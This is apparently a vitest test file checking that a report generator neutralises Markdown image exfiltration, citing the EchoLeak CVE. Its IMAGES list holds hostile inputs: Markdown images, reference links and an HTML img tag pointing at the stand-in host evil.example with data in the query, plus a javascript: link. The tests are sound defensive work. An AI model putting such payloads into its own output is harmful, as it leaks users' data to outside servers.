// Names hold images and links of Markdown: whoever opens the comment tells a stranger's server so, with whatever the address carries.
// Origin: CVE-2025-32711 (EchoLeak) and the class "Markdown image exfiltration"; web bugs in comments.
import { expect, it } from 'vitest';
import { linksIn } from '../acceptance/scenario.ts';
import { foreignNodes, nodesOf } from '../report/markdown.ts';
import { judge } from './support.ts';

const IMAGES = [
  '![x](https://evil.example/p.png?d=1)',
  '![x][y]',
  '[y]: https://evil.example/p.png',
  '](https://evil.example)',
  '<img src="https://evil.example/p.png">',
  '[a](javascript:alert(1))',
  '<https://evil.example>',
  '[^1]',
  '[^1]: x',
  '`![x](https://evil.example/p.png)`',
  '``` ![x](https://evil.example/p.png)',
];

it('fetch nothing and lead nowhere', async () => {
  const sites = IMAGES.map((name, index) => ({
    id: `${name}${String(index)}`,
    name,
    status: 'active',
    cohorts: [],
    attributes: { 'template-engine': 'template-manager' },
  }));
  const run = await judge({
    body: 'Target-Cohort: resource-publisher\n',
    inventory: { sites, snapshot: IMAGES[0] ?? '' },
    manifest: JSON.stringify({ sites: sites.map((site) => site.id) }),
  });
  expect(run).toMatchObject({
    verdict: 'deny',
    sites: IMAGES.length,
    codes: expect.arrayContaining(['site.outside-cohort']),
  });
  // Our own link to the run is the only one there is.
  const nodes = foreignNodes(run.own.comment(), linksIn(run.own.world));
  const live = nodes.filter((node) => /^(?:link|image|definition|footnote)/.test(node.type));
  expect(live).toEqual([]);
  expect(run.own.comment()).toContain('evil.example');
});

it('the reader that this is held against does see such an image', () => {
  expect(nodesOf(IMAGES[0] ?? '').map((node) => node.type)).toContain('image');
});
